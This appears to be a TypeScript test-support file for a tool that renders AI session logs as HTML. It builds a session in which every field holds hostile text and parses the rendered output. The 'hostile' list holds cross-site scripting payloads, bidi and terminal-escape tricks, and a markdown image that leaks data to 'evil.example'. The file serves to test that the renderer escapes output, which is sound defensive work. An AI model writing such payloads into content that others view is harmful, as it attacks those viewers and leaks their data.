/** Test support: a session of hostile text, paged as the contract pages it, and a parsed view of HTML. */
import type { DefaultTreeAdapterMap } from 'parse5';
import { parse, parseFragment } from 'parse5';
import type { SessionDetail, Turn } from '../model';
import { sampleSummary } from '../testkit';
import type { TurnPages } from './types';

/** What a model might write to attack whoever views its session. */
export const hostile = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<a href="javascript:alert(1)">click</a>',
  '[click](javascript:alert(1))',
  '<javascript:alert(1)>',
  '![leak](https://evil.example/leak.png?data=secret)',
  '<svg onload=alert(1)>',
  '</style><script>alert(2)</script>',
  '</title><script>alert(3)</script>',
  '<!-- unclosed comment',
  '<iframe srcdoc="<script>alert(4)</script>"></iframe>',
  '```\n</div><script>alert(5)</script>\n```',
  '````html\n<b onmouseover=alert(6)>x</b>\n````',
  '" onmouseover="alert(7)',
  "' onfocus='alert(8)",
  '&lt;script&gt;alert(9)&lt;/script&gt;',
  '\u202Egnp.exe\u202C and \u2066isolated\u2069',
  'NUL\u0000here ESC\u001b[2J and CSI\u009b31m',
  'line\rover',
];

export function turn(index: number, text: string, extra: Partial<Turn> = {}): Turn {
  return {
    index,
    notice: false,
    id: `t${index}`,
    role: index % 2 === 0 ? 'user' : 'assistant',
    text,
    time: '2026-11-23T05:00:00.000Z',
    toolCalls: [],
    tags: [],
    metadata: {},
    ...extra,
  };
}

export function detailOf(turns: readonly Turn[], title = 'a session'): SessionDetail {
  return {
    summary: sampleSummary('root1', 'session-1', {
      title,
      untitled: false,
      projectPath: '/projects/demo',
      createdAt: '2026-11-23T04:00:00.000Z',
      updatedAt: '2026-11-23T05:00:00.000Z',
      turnCount: turns.length,
    }),
    compactions: [],
    panels: {
      format: 'zeroclaw',
      stem: 'session-1',
      key: null,
      storage: 'jsonl',
      messageCount: turns.length,
      unreadableLines: 0,
      createdAt: null,
      lastActivity: null,
      metadataRow: null,
    },
  };
}

/** A session whose every string is hostile: title, role, text, tool names, arguments and results. */
export function hostileSession(): { detail: SessionDetail; turns: Turn[] } {
  const joined = hostile.join('\n\n');
  const turns = hostile.map((text, index) =>
    turn(index, text, {
      role: index === 0 ? '<script>alert("role")</script>' : 'assistant',
      toolCalls: [
        {
          name: `<img src=x onerror=alert("tool")>`,
          arguments: { command: text, nested: [text] },
          result: text,
          success: index % 2 === 0,
          durationMs: 12,
        },
      ],
    }),
  );
  turns.push(turn(turns.length, joined));
  const detail = detailOf(turns, '</title><script>alert("title")</script>');
  detail.summary.projectPath = '"><script>alert("project")</script>';
  detail.compactions = [{ summary: joined, turnCount: 3, startTime: null, endTime: '<b>x</b>' }];
  return { detail, turns };
}

export async function* pagesOf(turns: readonly Turn[], size = 2): TurnPages {
  for (let from = 0; from < turns.length; from += size) yield turns.slice(from, from + size);
}

export async function collect(chunks: AsyncIterable<string>): Promise<string> {
  let text = '';
  for await (const chunk of chunks) text += chunk;
  return text;
}

type Node = DefaultTreeAdapterMap['node'];
export type Element = DefaultTreeAdapterMap['element'];

function* walk(node: Node): Generator<Node> {
  yield node;
  const children = 'childNodes' in node ? node.childNodes : [];
  for (const child of children) yield* walk(child);
  if (node.nodeName === 'template') yield* walk((node as DefaultTreeAdapterMap['template']).content);
}

/** Every element and every text node of a document or fragment, as a browser would parse it. */
export function parsed(html: string, fragment = false): { elements: Element[]; texts: string[] } {
  const root = fragment ? parseFragment(html) : parse(html);
  const elements: Element[] = [];
  const texts: string[] = [];
  for (const node of walk(root)) {
    if ('tagName' in node) elements.push(node);
    else if (node.nodeName === '#text') texts.push((node as DefaultTreeAdapterMap['textNode']).value);
  }
  return { elements, texts };
}

export function textContent(element: Element): string {
  return [...walk(element)]
    .filter((node) => node.nodeName === '#text')
    .map((node) => (node as DefaultTreeAdapterMap['textNode']).value)
    .join('');
}
